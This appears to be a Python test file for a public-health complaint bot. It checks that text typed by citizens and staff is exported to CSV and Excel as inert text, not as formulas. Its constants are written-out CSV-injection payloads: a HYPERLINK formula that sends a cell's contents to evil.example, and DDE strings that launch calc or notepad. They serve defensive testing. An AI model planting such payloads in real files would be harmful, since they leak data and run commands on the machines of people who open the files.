"""Text someone typed reaches every export as text: no cell of a CSV file or workbook is a formula.

A spreadsheet evaluates a cell that begins with = + - @, a tab or a carriage return (OWASP,
"CSV Injection"). A citizen's complaint `=HYPERLINK("http://evil.example/?t="&A2,...)` would
otherwise send the next cell to a stranger the moment a supervisor clicks "Lihat foto bukti".
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from typer.testing import CliRunner

from bot.cli import app
from bot.files.exporting import ExportFormat, Table
from bot.texts import CATALOGUES
from db import models
from db.engine import create_database
from kinerja.catalog import Catalog
from kinerja.complaints import TicketStatus
from kinerja.skm import ELEMENT_CODES
from kinerja.types import Language
from tests import seed
from tests.bot.conftest import Harness, use_cli_environment
from tests.bot.personas import (
    POLI_UMUM,
    answer_survey,
    seed_andi,
    seed_rina,
    supervisor,
)

ID = CATALOGUES[Language.ID]
runner = CliRunner()

# What the test itself calls dangerous, independently of the code under test.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

COMPLAINT = '=HYPERLINK("http://evil.example/?t="&A2,"Lihat foto bukti")'
FOLLOW_UP = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "+cmd|' /C notepad'!A1"
FEEDBACK = "-2+3+cmd|' /C calc'!A0"
ERROR_LOOKALIKE = "#N/A"


def _dangerous(text: str) -> bool:
    return text.startswith(TRIGGERS) and NUMBER.fullmatch(text) is None


def assert_inert_workbook(data: bytes | Path, *typed: str) -> None:
    """No cell is a formula; every typed text is there unchanged, as text, with Excel's quote
    prefix so that editing the cell does not turn it into a formula either."""
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    found: dict[str, tuple[str, bool]] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                assert cell.data_type not in ("f", "e"), (where, cell.value)
                if isinstance(cell.value, str):
                    found[cell.value] = (cell.data_type, bool(cell.quotePrefix))
                    if _dangerous(cell.value):
                        assert cell.quotePrefix, (where, cell.value)
    for text in typed:
        stored = text.replace("\r", "\n")  # XML reads every line end as LF (XML 1.0, 2.11)
        assert found.get(stored) == ("s", _dangerous(text)), (text, found.get(stored))


def assert_inert_csv(path: Path, *typed: str) -> None:
    """No field starts a formula; each dangerous text is kept behind OWASP's leading quote."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        fields = [field for row in csv.reader(file) for field in row]
    assert [f for f in fields if _dangerous(f)] == []
    for text in typed:
        assert ("'" + text if _dangerous(text) else text) in fields, text


# ------------------------------------------------------------------------------ the writer


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_every_text_that_would_start_a_formula_is_written_as_text(
    fmt: ExportFormat, tmp_path: Path
) -> None:
    """Real numbers, negative ones included, stay numbers: only text is neutralised. A text that
    is nothing but a number ("-12.5") reads as that number and runs nothing, so it is left."""
    texts = [
        COMPLAINT,
        "+62 812 3456",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        ERROR_LOOKALIKE,
        "Toilet kotor",
        "-12.5",
    ]
    path = tmp_path / f"table.{fmt.value}"
    with Table(path, fmt, ["text", "number"], "sheet") as table:
        for text in texts:
            table.row([text, -3])
        table.row([None, Decimal("-0.5")])
    if fmt is ExportFormat.CSV:
        assert_inert_csv(path, *texts)
        with path.open(encoding="utf-8-sig", newline="") as file:
            written = [row[1] for row in csv.reader(file)][1:]
        assert written == ["-3"] * len(texts) + ["-0.5"]
        return
    assert_inert_workbook(path, *texts)
    book = load_workbook(path)
    cells = [c for (c,) in book["sheet"].iter_rows(min_row=2, min_col=2)]
    assert [(c.value, c.data_type) for c in cells] == [(-3, "n")] * len(texts) + [(-0.5, "n")]


# ------------------------------------------------------------------------------ in the chat


async def test_a_hostile_complaint_is_text_in_the_supervisors_workbooks(bot: Harness) -> None:
    """/ekspor and the Excel button under a summary: the citizen types a formula, the supervisor
    types another as the follow-up; both arrive as text."""
    andi = await supervisor(bot)
    siti = bot.user(1001, "Siti")
    await answer_survey(siti, POLI_UMUM, dict.fromkeys(ELEMENT_CODES, 3), ID)
    await siti.send("45")
    assert ID.complaint_question() in ((await siti.next_new_message()).text or "")
    await siti.send(COMPLAINT)
    photo_question = await siti.next_new_message()
    await siti.press(photo_question, ID.no_photo_button())

    alert = await andi.next_message()
    await andi.press(alert, ID.take_button())
    await andi.press(alert, ID.close_button())
    await andi.next_new_message()  # asks for the follow-up (past the alert's new buttons)
    await andi.send(FOLLOW_UP)
    await andi.next_new_message()  # closed
    await bot.settle()
    async with bot.application.bot_data.services.database.snapshot() as tx:
        complaint = await tx.session.scalar(select(models.Complaint))
    assert complaint is not None
    assert (complaint.text, complaint.follow_up) == (COMPLAINT, FOLLOW_UP)

    await andi.send("/ekspor")
    exported = await andi.next_message()
    assert exported.document is not None
    assert_inert_workbook(exported.document, COMPLAINT, FOLLOW_UP)

    await andi.send("/rekap")
    summary = await andi.next_message()
    await andi.next_message()  # chart
    await andi.press(summary, ID.xlsx_button())
    button = await andi.next_message()
    assert button.document is not None
    assert_inert_workbook(button.document, COMPLAINT, FOLLOW_UP)


# ------------------------------------------------------------------------------ the CLI


@pytest.fixture
def environment(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, database_url: str, example_catalog: Catalog
) -> str:
    """Pauh with Rina's two reports (a hostile note and feedback) and a hostile complaint."""
    use_cli_environment(monkeypatch, tmp_path, database_url)

    async def prepare() -> None:
        database = create_database(database_url)
        try:
            async with database.transaction() as tx:
                await tx.catalog.apply(example_catalog)
            registered = datetime(2026, 10, 1, tzinfo=UTC)
            rina = await seed_rina(database, registered)
            andi = await seed_andi(database, registered)
            unit_id = await seed.unit_id(database, POLI_UMUM)
            at = datetime(2026, 11, 24, 3, tzinfo=UTC)
            async with database.transaction() as tx:
                metric = await tx.session.scalar(
                    select(models.Metric.id).where(models.Metric.code == "kebersihan_tangan")
                )
                assert metric is not None
                for day, note in (
                    (date(2026, 11, 24), NOTE),
                    (date(2026, 11, 25), ERROR_LOOKALIKE),
                ):
                    await tx.reports.save(
                        person_id=rina,
                        unit_id=unit_id,
                        metric_id=metric,
                        day=day,
                        value=Decimal(17),
                        denominator=Decimal(20),
                        note=note,
                        evidence_file_id=None,
                        now=at,
                    )
                first = await tx.session.scalar(
                    select(models.AsnReport.id).order_by(models.AsnReport.id)
                )
                assert first is not None
                await tx.reports.give_feedback(first, FEEDBACK, andi, at)
                complaint = await tx.complaints.create(
                    ticket="PKM-PAUH-2026-000001",
                    unit_id=unit_id,
                    response_id=None,
                    text=COMPLAINT,
                    serious=False,
                    reporter_hash="0" * 64,
                    citizen_chat_id=1001,
                    citizen_language=Language.ID,
                    now=at,
                    retain_until=at + timedelta(days=365),
                )
                await tx.complaints.update(
                    complaint, status=TicketStatus.CLOSED, follow_up=FOLLOW_UP, closed_at=at
                )
        finally:
            await database.dispose()

    asyncio.run(prepare())
    return database_url


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_a_hostile_asn_note_is_text_in_the_report_export(
    environment: str, tmp_path: Path, fmt: ExportFormat
) -> None:
    out = tmp_path / f"laporan.{fmt.value}"
    result = runner.invoke(
        app,
        [
            "export",
            "reports",
            "--from",
            "2026-11-23",
            "--to",
            "2026-11-29",
            "--out",
            str(out),
            "--format",
            fmt.value,
        ],
    )
    assert result.exit_code == 0, result.output
    if fmt is ExportFormat.CSV:
        assert_inert_csv(out, NOTE, FEEDBACK, ERROR_LOOKALIKE, "17/20")
    else:
        assert_inert_workbook(out, NOTE, FEEDBACK, ERROR_LOOKALIKE, "17/20")


def test_a_hostile_complaint_is_text_in_the_skm_report(environment: str, tmp_path: Path) -> None:
    out = tmp_path / "skm.xlsx"
    result = runner.invoke(
        app,
        ["report", "skm", "--unit", POLI_UMUM, "--period", "2026-Q4", "--out", str(out)],
    )
    assert result.exit_code == 0, result.output
    assert_inert_workbook(out, COMPLAINT, FOLLOW_UP)
